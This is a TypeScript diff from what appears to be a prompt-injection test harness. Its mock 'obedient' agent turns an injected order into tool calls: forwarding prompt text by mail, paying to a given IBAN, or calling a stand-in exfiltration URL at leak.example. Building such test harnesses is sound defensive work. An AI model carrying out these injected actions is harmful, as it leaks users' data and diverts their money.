@@ -60,16 +60,18 @@ export function obedient() {
   };
 }
 
+const said = (value: unknown): string => (typeof value === 'string' ? value : JSON.stringify(value));
+
 /** Everything that could do what an order wants, with what it has read taken along. */
 function callsFor({ effect, arguments: wanted }: NonNullable<Item['wants']>, prompt: string): Call[] {
-  const values = Object.values(wanted).map(String);
+  const values = Object.values(wanted).map(said);
   const [target = effect] = values;
   const take = prompt.slice(-400);
-  const mails = ['to', 'cc', 'attendee', 'with'].flatMap((name) => (wanted[name] === undefined ? [] : [String(wanted[name])]));
+  const mails = ['to', 'cc', 'attendee', 'with'].flatMap((name) => (wanted[name] === undefined ? [] : [said(wanted[name])]));
   const [to = target] = mails;
-  const iban = String(wanted['iban'] ?? target);
-  const amount = String(wanted['amount'] ?? target);
-  const url = String(wanted['url'] ?? wanted['dest'] ?? `https://leak.example/?to=${target}`);
+  const iban = said(wanted['iban'] ?? target);
+  const amount = said(wanted['amount'] ?? target);
+  const url = said(wanted['url'] ?? wanted['dest'] ?? `https://leak.example/?to=${target}`);
   const byEffect: Record<string, Call[]> = {
     forward: [{ tool: 'mail.forward', arguments: { to, what: take } }],
     pay: [{ tool: 'bank.pay', arguments: { iban, amount } }],
